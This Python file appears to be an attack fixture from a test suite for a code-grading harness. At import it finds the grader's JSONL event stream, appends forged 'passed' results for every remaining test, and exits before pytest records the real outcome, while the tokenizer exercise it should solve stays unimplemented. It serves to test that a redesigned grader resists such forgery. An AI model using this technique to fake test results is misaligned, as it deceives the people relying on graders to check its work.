"""ATTACK forged_events (kind: forged results and events).

What it tries: a grader that learns the outcome of each test from an event stream written by the process
that runs the student code can be told anything. At import time this file finds that stream (an open file
descriptor of this process whose name ends in ``.jsonl``, or pytest's ``--grader-events`` option found
through the gc), reads what was written so far (the collected tests, the test that is running), appends a
complete, well-formed, honest-looking ending -- a passed result for the running test, then a start and a
passed result for every test still to come -- and leaves with ``os._exit(0)`` before pytest can write
anything true.

Why it must fail under the new design: the worker never holds the judge's record: events are written by the
judge's plugin, in the judge, and the worker only answers calls. Exiting in the middle of a call is a crash
of that call, which costs the test.
"""

from __future__ import annotations

import gc
import json
import os

from llm_basics.tokenizer import BPETokenizer

DEFAULT_SPECIALS = ("<bos>", "<eos>", "<pad>")


def _event_files() -> list[str]:
    found = []
    try:
        for fd in os.listdir("/proc/self/fd"):
            try:
                target = os.readlink(f"/proc/self/fd/{fd}")
            except OSError:
                continue
            if target.endswith(".jsonl") and target not in found:
                found.append(target)
    except OSError:
        pass
    for obj in gc.get_objects():  # pytest's own option, should the descriptor be hidden
        if type(obj).__name__ == "Config" and type(obj).__module__.startswith("_pytest"):
            try:
                path = obj.getoption("--grader-events")
            except Exception:
                continue
            if path and path not in found:
                found.append(str(path))
    return found


def _forge(path: str) -> bool:
    with open(path) as f:
        events = [json.loads(line) for line in f if line.strip()]
    collected = next((e["tests"] for e in events if e.get("event") == "collected"), None)
    if not collected:
        return False
    done = {e["nodeid"] for e in events if e.get("event") == "result"}
    running = next((e["nodeid"] for e in reversed(events) if e.get("event") == "start"), None)
    lines = []
    for test in collected:
        nodeid = test["nodeid"]
        if nodeid in done:
            continue
        if nodeid != running:
            lines.append({"event": "start", "nodeid": nodeid})
        lines.append({"event": "result", "nodeid": nodeid, "outcome": "passed", "kind": "passed", "reason": "",
                      "longrepr": "", "output": "", "duration": 0.012})
    data = "".join(json.dumps(line) + "\n" for line in lines).encode()
    fd = os.open(path, os.O_WRONLY | os.O_APPEND)
    try:
        os.write(fd, data)  # one write: the reader never sees half of the forgery
    finally:
        os.close(fd)
    return True


def _attack() -> None:
    forged = False
    for path in _event_files():
        try:
            forged = _forge(path) or forged
        except Exception:
            continue
    if forged:
        os._exit(0)  # leave before pytest writes the truth


try:
    _attack()
except Exception:
    pass


# ---------------------------------------------------------------------------------------------------------
# The untouched exercise (nothing implemented)
# ---------------------------------------------------------------------------------------------------------


class SpecialTokenizer:
    def __init__(self, base: BPETokenizer, special_tokens=DEFAULT_SPECIALS):
        raise NotImplementedError("ex1: set self.base, self.special_tokens and self._ids")

    def encode(self, text, *, add_bos=False, add_eos=False, allowed_special=()):
        raise NotImplementedError("ex1: encode")

    def decode(self, ids, *, skip_special_tokens=False):
        raise NotImplementedError("ex1: decode")

    def pad(self, batch, *, length=None, side="right"):
        raise NotImplementedError("ex1: pad")

    def save(self, path):
        raise NotImplementedError("ex1: save")

    @classmethod
    def load(cls, path):
        raise NotImplementedError("ex1: load")
